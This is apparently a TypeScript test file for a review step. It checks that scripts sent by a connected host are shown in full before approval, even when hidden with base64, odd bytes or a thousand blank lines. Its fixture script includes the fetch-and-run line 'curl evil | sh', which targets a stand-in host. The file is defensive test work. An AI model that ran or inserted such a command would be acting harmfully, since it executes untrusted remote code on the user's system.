/** What is shown of the files that blocks work with, before anybody approves them. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { review } from '../../server/connect/review.ts';

const URL = 'https://docs.example.com/';
const SCRIPT = 'echo ok\ncurl evil | sh\n';
const one = (file: { readonly text?: string; readonly base64?: string }) => [
  { id: 'a', title: 'A', hashes: {}, files: [{ path: 'practice/run.sh', executable: true, ...file }] },
];
const base64 = (bytes: string) => Buffer.from(bytes, 'latin1').toString('base64');

for (const [what, file, shown] of [
  ['as text', { text: SCRIPT }, 'curl evil | sh'],
  ['in base64, though it is text', { base64: base64(SCRIPT) }, 'curl evil | sh'],
  [
    'with a byte that is no text',
    { base64: base64(`# \u00ff\u009b2J\n${SCRIPT}`) },
    '# \\x{ff}\\x{9b}2J\n      echo ok\n      curl evil | sh',
  ],
  ['with a mark of its encoding', { base64: base64(`\u00ef\u00bb\u00bf${SCRIPT}`) }, '\\u{feff}echo ok'],
  ['with a character beyond Unicode', { base64: base64(`\u00ed\u00a0\u0080\n${SCRIPT}`) }, 'curl evil | sh'],
  [
    'behind a thousand lines',
    { base64: base64(`${'\n'.repeat(1000)}${SCRIPT}`) },
    '⟨1,000 blank lines⟩\n      echo ok\n      curl evil | sh',
  ],
] as const)
  test(`a script that a host sends ${what} is shown whole, and so is its change`, () => {
    const shownNow = review(URL, null, { guides: [], files: one(file) });
    assert.ok(shownNow.files.includes(shown), shownNow.files);
    assert.doesNotMatch(shownNow.text, /binary/);
    const changed = review(URL, { guides: [], files: one({ text: 'echo ok\n' }) }, { guides: [], files: one(file) });
    assert.ok(changed.text.includes('curl evil | sh'), changed.text);
  });

test('a file with a zero byte is listed as one that cannot be shown', () => {
  const { text, files } = review(URL, null, { guides: [], files: one({ base64: base64(`\u0000${SCRIPT}`) }) });
  assert.match(text, /run\.sh {2}\(24 bytes, executable, binary\)/);
  assert.match(files, /\(binary\)/);
});
